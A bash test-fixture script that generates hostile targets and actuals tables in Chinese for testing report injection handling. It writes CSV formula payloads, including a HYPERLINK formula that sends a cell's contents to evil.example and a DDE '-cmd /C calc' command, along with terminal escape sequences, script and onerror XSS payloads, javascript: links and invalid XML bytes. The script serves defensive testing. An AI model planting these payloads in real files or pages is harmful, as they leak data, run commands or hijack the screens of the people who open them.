#!/usr/bin/env bash
# Writes a hostile targets and actuals table into DIR (issue 15, "Injection into
# reports"): cells that a spreadsheet would run as formulas (= + - @), terminal
# escape sequences (ESC, BEL: retitle the window, clear the screen), characters
# XML 1.0 does not allow (U+0001, U+000B, U+FFFE), raw HTML and script, a
# javascript: link and Markdown that would reshape a table. Made at test time so
# that no committed file holds raw control bytes.
#   bash tests/golden/data/hostile/make.sh DIR
set -euo pipefail
dir=$1
esc=$'\x1b' bel=$'\x07'
title="${esc}]0;PWN${bel}${esc}[2J"
{
  printf '# 单位: <b>单位</b> & #\n# 年度: 2024\n'
  printf '一级指标\t二级指标\t重点工作\t三级指标\t半年指标值\t全年指标值\n'
  printf '=HYPERLINK("http://evil.example/?q="&A1,"点击")\t数量指标\t\t+SUM(1,2)\t≥3个\t≥6个\n'
  printf '产出指标\t-2+3\t\t@SUM(A1:A9)\t≥3个\t≥6个\n'
  printf '产出指标\t质量指标\t\t<script>alert(1)</script>\t≥95%%\t≥95%%\n'
  printf '产出指标\t质量指标\t\t[点我](javascript:alert(1))\t≥95%%\t≥95%%\n'
  printf '效益指标\t社会效益\t\t%s标题\t健全\t健全\n' "$title"
  printf '效益指标\t社会效益\t\ta|b*c*_d_`e`\x01\x0b\xef\xbf\xbe\t≥100人\t≥200人\n'
} >"$dir/targets.tsv"
{
  printf '# 期间: 全年\n指标\t实际值\t偏差原因\n'
  printf '+SUM(1,2)\t7个\t=1+1\n'
  printf "@SUM(A1:A9)\t2个\t-cmd|' /C calc'!A0\n"
  printf '<script>alert(1)</script>\t90%%\t<img src=x onerror=alert(1)>\n'
  printf '[点我](javascript:alert(1))\t96%%\t[x](javascript:alert(1))\n'
  printf '%s标题\t基本健全\t%s[31m红%s[0m%s\n' "$title" "$esc" "$esc" "$bel"
  printf 'a|b*c*_d_`e`\x01\x0b\xef\xbf\xbe\t150人\t</failure><!-- -->\n'
  printf "'%sx'\t1\t\n" "$title"
} >"$dir/actuals.tsv"
